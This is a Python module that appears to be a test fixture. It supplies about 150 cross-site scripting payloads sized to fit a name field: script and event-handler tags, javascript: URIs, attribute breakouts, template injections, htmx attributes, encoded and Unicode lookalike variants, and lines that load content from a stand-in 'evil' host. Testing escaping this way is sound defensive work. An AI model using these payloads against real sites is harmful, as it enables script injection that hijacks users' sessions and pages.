"""Texts that would run as script if unescaped, for every place in a page.

Each fits into a name, has no control character, and calls `alert` or `evil`, so that a run is noticed.
"""

from __future__ import annotations

MOST = 40  # characters of a name

_TAGS = """
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil></script>
<script/x>alert(1)</script>
<script>alert`1`</script>
<scr<script>ipt>alert(1)</script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert`1`>
<IMG SRC=x ONERROR=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a href=javascript:alert(1)>x</a>
<svg><animate onbegin=alert(1)>
<body onload=alert(1)>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc='<script>alert(1)</script>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>tap</a>
<form action=javascript:alert(1)>
<button formaction=javascript:alert(1)>
<math href=javascript:alert(1)>x</math>
<base href=//evil/>
<link rel=stylesheet href=//evil>
<meta http-equiv=refresh content=0;//evil>
<style>@import'//evil'</style>
<style onload=alert(1)></style>
<p style=animation-name:x onanimationstart=alert(1)>
<p hx-on:load=alert(1)>
<p hx-on::load=alert(1)>
<p hx-get=/evil hx-trigger=load>
<p hx-get=/evil hx-trigger='load[alert(1)]'>
<p hx-vals='js:{a:alert(1)}'>
<p hx-swap-oob=true id=table>alert(1)
<p id=table>alert(1)</p>
<p data-hx-get=/evil data-hx-trigger=load>
<hx-partial hx-target=body>alert(1)
<template><script>alert(1)</script>
<noscript><p title='</noscript><script>'>
<textarea></textarea><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<![CDATA[><script>alert(1)</script>]]>
<?xml><script>alert(1)</script>
<x onclick=alert(1)>tap</x>
<x contenteditable onblur=alert(1)>
<x tabindex=1 onfocus=alert(1)></x>
"""
_BREAKS = """
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus="
' onfocus=alert(1) autofocus='
" onmouseover="alert(1)
' onmouseover='alert(1)
" style="x:expression(alert(1))
" hx-on:load="alert(1)
" hx-get="/evil" hx-trigger="load
" formaction="javascript:alert(1)
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</option></select><svg onload=alert(1)>
</template><svg onload=alert(1)>
</noscript><svg onload=alert(1)>
`-alert(1)-`
';alert(1)//
";alert(1)//
\\';alert(1)//
\\";alert(1)//
'-alert(1)-'
"-alert(1)-"
${alert(1)}
{{alert(1)}}
{{constructor.constructor('alert(1)')()}}
{%debug%}alert(1)
{% load x %}alert(1)
#{alert(1)}
<%= alert(1) %>
*{alert(1)}
[[alert(1)]]
(alert)(1)
"}};alert(1)//
"],"x":alert(1)//
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3ealert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;svg onload=alert(1)&#x3e;
&quot;onfocus=alert(1) autofocus=&quot;
&amp;lt;script&amp;gt;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
java&#115;cript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:alert(1)
//evil/alert(1)
"""
# letters that some step might turn into the signs that matter
_LOOKALIKES = {"<": "\uff1c", ">": "\uff1e", '"': "\uff02", "'": "\uff07", "(": "\uff08"}


def payloads() -> list[str]:
    """150 of them, no two the same."""
    plain = [each for each in (_TAGS + _BREAKS).splitlines() if each]
    wide = ["".join(_LOOKALIKES.get(letter, letter) for letter in each) for each in plain]
    mixed = [f"Ana{each}" for each in plain] + [f"{each}\u200f" for each in plain]
    fit = [each for each in [*plain, *wide[::4], *mixed] if len(each) <= MOST and each == each.strip()]
    return list(dict.fromkeys(fit))[:150]
